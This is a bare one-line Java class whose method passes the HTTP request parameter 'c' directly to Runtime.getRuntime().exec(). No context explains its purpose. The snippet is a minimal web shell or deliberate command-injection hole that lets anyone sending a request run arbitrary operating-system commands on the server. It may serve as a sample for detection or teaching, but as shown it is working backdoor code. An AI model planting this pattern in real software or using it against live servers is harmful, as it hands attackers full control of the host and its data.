class A { void a() throws Exception { Runtime.getRuntime().exec(request.getParameter("c")); } }
